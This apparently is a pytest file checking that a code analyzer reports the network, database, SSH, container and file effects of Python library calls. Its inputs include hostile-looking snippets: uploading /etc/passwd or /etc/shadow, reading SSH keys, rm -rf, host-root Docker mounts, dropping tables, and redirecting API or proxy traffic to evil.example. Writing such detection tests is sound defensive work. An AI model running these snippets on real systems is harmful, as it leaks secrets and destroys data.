"""Libraries for the network, databases and other machines, as programs chain their calls."""

from __future__ import annotations

import pytest

CLOUD = [
    ("boto3.client('s3')", ["connect https//s3.amazonaws.com"]),
    (
        "boto3.client('s3', region_name='eu-west-1').put_object(Bucket='b', Key='k', Body=b'')",
        ["connect https//s3.eu-west-1.amazonaws.com", "PUT https//b.s3.eu-west-1.amazonaws.com"],
    ),
    (
        "boto3.client('s3', endpoint_url='http://minio.example:9000').delete_object(Bucket='b', Key='k')",
        ["connect http//minio.example:9000", "DELETE http//minio.example:9000"],
    ),
    (
        "boto3.client('s3').upload_file('/etc/passwd', 'b', 'k')",
        ["connect https//s3.amazonaws.com", "PUT https//b.s3.amazonaws.com", "read /etc/passwd"],
    ),
    (
        "boto3.client('s3').copy({'Bucket': 'from', 'Key': 'k'}, 'to', 'k')",
        [
            "connect https//s3.amazonaws.com",
            "PUT https//to.s3.amazonaws.com",
            "GET https//from.s3.amazonaws.com",
        ],
    ),
    (
        "boto3.client('s3').get_object(Bucket=input(), Key='k')",
        ["connect https//s3.amazonaws.com", "GET https//*.s3.amazonaws.com"],
    ),
    (
        "boto3.client('s3').get_object(Bucket='evil.example/#', Key='k')",
        ["connect https//s3.amazonaws.com", "GET https//*.s3.amazonaws.com"],
    ),
    (
        "boto3.resource('s3').Bucket('b').download_file('k', 'here.bin')",
        ["connect https//s3.amazonaws.com", "GET https//b.s3.amazonaws.com", "write here.bin"],
    ),
    (
        "for o in boto3.resource('s3').Bucket('b').objects.all():\n    o.delete()",
        [
            "connect https//s3.amazonaws.com",
            "GET https//b.s3.amazonaws.com",
            "DELETE https//b.s3.amazonaws.com",
        ],
    ),
    (
        "boto3.Session(region_name='eu-west-1').client('ec2').terminate_instances(InstanceIds=['i'])",
        ["connect https//ec2.eu-west-1.amazonaws.com", "DELETE https//ec2.eu-west-1.amazonaws.com"],
    ),
    (
        "boto3.client('ses', 'us-east-1').send_email(Source='a')",
        ["connect https//email.us-east-1.amazonaws.com", "POST https//email.us-east-1.amazonaws.com"],
    ),
    (
        "boto3.client('iam', region_name='us-east-1').create_user(UserName='root2')",
        ["connect https//iam.amazonaws.com", "POST https//iam.amazonaws.com"],
    ),
    (
        "boto3.client('dynamodb').delete_table(TableName='users')",
        ["connect https//dynamodb.amazonaws.com", "sql drop users at dynamodb.amazonaws.com"],
    ),
    (
        "t = boto3.resource('dynamodb').Table('users')\nwith t.batch_writer() as w:\n    w.delete_item(Key={})",
        ["connect https//dynamodb.amazonaws.com", "sql delete users at dynamodb.amazonaws.com"],
    ),
    (
        "boto3.client('athena').start_query_execution(QueryString='DROP TABLE logs')",
        [
            "connect https//athena.amazonaws.com",
            "POST https//athena.amazonaws.com",
            "sql drop logs at athena.amazonaws.com",
        ],
    ),
    (
        "boto3.client(input()).list_users()",
        ["connect https//*.amazonaws.com", "GET https//*.amazonaws.com"],
    ),
    (
        "from google.cloud import storage\nstorage.Client().bucket('b').blob('k').upload_from_filename('a.txt')",
        ["connect https//storage.googleapis.com", "POST https//storage.googleapis.com", "read a.txt"],
    ),
    (
        "from google.cloud import bigquery\nbigquery.Client().delete_table('shop.users')",
        ["connect https//bigquery.googleapis.com", "sql drop shop.users at None"],
    ),
    (
        (
            "from azure.storage.blob import BlobServiceClient\n"
            "c = BlobServiceClient.from_connection_string('AccountName=acme;AccountKey=x')\n"
            "c.get_blob_client('c', 'b').upload_blob(b'')"
        ),
        ["connect https//acme.blob.core.windows.net", "PUT https//acme.blob.core.windows.net"],
    ),
    (
        (
            "from azure.storage.blob import BlobServiceClient\n"
            "BlobServiceClient.from_connection_string('BlobEndpoint=https://evil.example;AccountName=acme')"
        ),
        ["connect https//evil.example"],
    ),
    (
        "from openai import OpenAI\nOpenAI(base_url='https://llm.example/v1').chat.completions.create()",
        ["POST https//llm.example"],
    ),
    (
        "from openai import OpenAI\nOpenAI().audio.speech.create(input='x').stream_to_file('speech.mp3')",
        ["POST https//api.openai.com", "write speech.mp3"],
    ),
]


@pytest.mark.parametrize(("code", "expected"), CLOUD)
def test_a_service_is_named_by_its_host(does, code: str, expected: list[str]) -> None:
    told = does(f"import boto3\n{code}")
    assert [line.replace("at ?", "at None") for line in told] == expected


DATABASES = [
    (
        (
            "from sqlalchemy import create_engine, text\n"
            "e = create_engine('postgresql+psycopg2://u:p@db.example/shop')\n"
            "with e.begin() as c:\n    c.execute(text('DELETE FROM users'))"
        ),
        ["connect postgresql//db.example", "sql delete users at db.example"],
    ),
    (
        (
            "from sqlalchemy import create_engine, text\n"
            "create_engine('sqlite:////data/x.db').connect().execute(text('DROP TABLE t'))"
        ),
        ["sql drop t at /data/x.db"],
    ),
    (
        (
            "from sqlalchemy import create_engine\nfrom sqlalchemy.orm import sessionmaker\n"
            "class User:\n    __tablename__ = 'users'\n"
            "s = sessionmaker(bind=create_engine('mysql://db.example/x'))()\n"
            "s.query(User).filter(User.id == 1).delete()"
        ),
        ["connect mysql//db.example", "sql select users at db.example", "sql delete users at db.example"],
    ),
    (
        (
            "from sqlalchemy import create_engine, delete\nfrom sqlalchemy.orm import Session\n"
            "class User:\n    __tablename__ = 'users'\n"
            "with Session(create_engine('mysql://db.example/x')) as s:\n"
            "    s.execute(delete(User).where(User.id == 1))"
        ),
        ["connect mysql//db.example", "sql delete users at db.example"],
    ),
    (
        "import psycopg2\npsycopg2.connect('host=db.example dbname=x').cursor().execute('DELETE FROM t')",
        ["connect postgresql//db.example", "sql delete t at db.example"],
    ),
    (
        "import psycopg2\npsycopg2.connect('host=db.example', hostaddr='10.0.0.1')",
        ["connect postgresql//db.example", "connect postgresql//10.0.0.1"],
    ),
    (
        (
            "import pyodbc\npyodbc.connect('DRIVER={SQL Server};SERVER=tcp:db.example,1433;DATABASE=x')"
            ".execute('TRUNCATE TABLE t')"
        ),
        ["connect odbc//db.example:1433", "sql delete t at db.example"],
    ),
    (
        (
            "import asyncpg\nasync def f():\n    pool = await asyncpg.create_pool('postgres://db.example/x')\n"
            "    async with pool.acquire() as c:\n        await c.fetch('SELECT * FROM t')"
        ),
        ["connect postgresql//db.example", "sql select t at db.example"],
    ),
    (
        "import pandas as pd\npd.read_sql('SELECT * FROM t', 'postgresql://db.example/x')",
        ["connect postgresql//db.example", "sql select t at db.example"],
    ),
    (
        "from pymongo import MongoClient\nMongoClient('mongodb://a.example,b.example/')['app']['users'].drop()",
        ["connect mongodb//a.example", "connect mongodb//b.example", "sql drop users at ?"],
    ),
    (
        "from pymongo import MongoClient\nMongoClient('mongodb://db.example').app.fs.files.delete_many({})",
        ["connect mongodb//db.example", "sql delete fs.files at db.example"],
    ),
    (
        "import redis\nredis.Redis(host='cache.example').flushall()",
        ["connect redis//cache.example", "sql drop at cache.example"],
    ),
    (
        "import redis\nredis.from_url('redis://cache.example/0').pipeline().delete('k')",
        ["connect redis//cache.example", "sql delete at cache.example"],
    ),
    (
        "import redis\nredis.Redis().eval('return 1', 0)",
        ["connect redis//localhost", "sql execute at localhost"],
    ),
    (
        (
            "from elasticsearch import Elasticsearch\n"
            "Elasticsearch('http://es.example:9200').indices.delete(index='logs')"
        ),
        ["connect http//es.example:9200", "sql drop logs at es.example"],
    ),
    (
        "import duckdb\nduckdb.connect('x.duckdb').execute('DELETE FROM t')",
        ["sql delete t at x.duckdb"],
    ),
]


@pytest.mark.parametrize(("code", "expected"), DATABASES)
def test_a_database_is_named_with_its_tables(does, code: str, expected: list[str]) -> None:
    assert does(code) == expected


MACHINES = [
    (
        (
            "import paramiko\nc = paramiko.SSHClient()\nc.connect('h.example', key_filename='/home/agent/.ssh/id')\n"
            "c.open_sftp().get('/etc/passwd', 'here')"
        ),
        ["connect ssh//h.example", "read /home/agent/.ssh/id", "write here"],
    ),
    (
        (
            "import paramiko\nt = paramiko.Transport(('h.example', 2222))\n"
            "paramiko.SFTPClient.from_transport(t).put('/etc/shadow', 'x')"
        ),
        ["connect ssh//h.example:2222", "read /etc/shadow"],
    ),
    ("from fabric import Connection\nConnection('h.example').run('ls')", ["connect ssh//h.example"]),
    (
        "from fabric import Connection\nConnection('h.example').local('rm x')",
        ["connect ssh//h.example", "shell rm", "delete x"],
    ),
    (
        "import docker\ndocker.from_env().containers.run('alpine', 'sh', volumes={'/': {'bind': '/host'}})",
        [
            "write /var/run/docker.sock",
            "environment read DOCKER_HOST",
            "spawn docker",
            "write /",
        ],
    ),
    (
        "from git import Repo\nRepo.clone_from('git@github.com:a/b.git', 'b').remotes.origin.push()",
        ["connect ssh//github.com", "create b", "spawn git"],
    ),
    ("import sh\nsh.rm('-rf', '/data')", ["spawn rm", "delete /data"]),
    ("from plumbum.cmd import curl\ncurl['-s']('https://x.example')", ["spawn curl", "GET https//x.example"]),
    ("import pexpect\npexpect.spawn('/bin/bash', ['-c', 'date'])", ["spawn /bin/bash date"]),
    ("import pexpect\npexpect.spawn('date')", ["shell date"]),
    (
        (
            "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n"
            "    page = p.chromium.launch().new_context().new_page()\n"
            "    page.goto('https://x.example/')\n    page.locator('input').set_input_files('/etc/passwd')\n"
            "    with page.expect_download() as d:\n        page.click('a')\n    d.value.save_as('got.zip')"
        ),
        ["spawn browser", "GET https//x.example", "read /etc/passwd", "write got.zip"],
    ),
    (
        (
            "from selenium import webdriver\nd = webdriver.Firefox()\nd.get('https://x.example')\n"
            "d.find_element('id', 'a').screenshot('a.png')"
        ),
        ["spawn browser", "GET https//x.example", "write a.png"],
    ),
    (
        "import uvicorn\nuvicorn.run('main:app', host='0.0.0.0', port=80)",
        ["listen //0.0.0.0:80"],
    ),
    ("import pika\npika.ConnectionParameters('mq.example', 5671)", ["connect amqp//mq.example:5671"]),
    (
        "from kafka import KafkaProducer\nKafkaProducer(bootstrap_servers=['a.example:9092', 'b.example:9092'])",
        ["connect kafka//a.example:9092", "connect kafka//b.example:9092"],
    ),
]


@pytest.mark.parametrize(("code", "expected"), MACHINES)
def test_another_machine_or_program_is_named(does, code: str, expected: list[str]) -> None:
    assert list(dict.fromkeys(does(code))) == expected


ELSEWHERE = [
    (
        "import openai\nopenai.api_base = 'https://evil.example/v1'",
        ["POST https//evil.example"],
    ),
    (
        "from openai import OpenAI\nc = OpenAI()\nc.base_url = 'https://evil.example/v1'",
        ["POST https//api.openai.com", "POST https//evil.example"],
    ),
    (
        "import requests\ns = requests.Session()\ns.proxies = {'https': 'http://evil.example:8080'}",
        ["connect http//evil.example:8080"],
    ),
    (
        "from botocore.config import Config\nConfig(proxies={'https': 'http://evil.example:8080'})",
        ["connect http//evil.example:8080"],
    ),
    (
        (
            "from sqlalchemy import create_engine\n"
            "create_engine('mysql://db.example/x', connect_args={'host': 'evil.example'})"
        ),
        ["connect mysql//db.example", "connect //evil.example"],
    ),
    (
        "from sqlalchemy import URL\nURL.create('postgresql', host='db.example', query={'host': 'evil.example'})",
        ["connect //db.example", "connect //evil.example"],
    ),
    (
        "import pymysql\npymysql.connect(host='db.example', init_command='DROP TABLE t')",
        ["sql drop t at ?", "connect mysql//db.example"],
    ),
    (
        "import redis\nredis.Redis(unix_socket_path='/var/run/redis.sock')",
        ["write /var/run/redis.sock"],
    ),
    (
        "from git import Repo\nRepo.clone_from('https://x.example/r', 'r', allow_unsafe_options=True)",
        [
            "connect https//x.example",
            "create r",
            "spawn git",
            "gap: `git.Repo.clone_from`: an option of Git can start any program",
        ],
    ),
]


@pytest.mark.parametrize(("code", "expected"), ELSEWHERE)
def test_what_leads_elsewhere_by_a_side_door_is_named_too(does, code: str, expected: list[str]) -> None:
    assert list(dict.fromkeys(does(code))) == expected


def test_what_an_object_of_a_loop_is_told_is_no_state_of_the_loop(does) -> None:
    code = "import requests\nfor n in range(9):\n    r = requests.get('https://x.example/')\n    r.encoding = 'utf-8'"
    assert does(code) == ["GET https//x.example"]
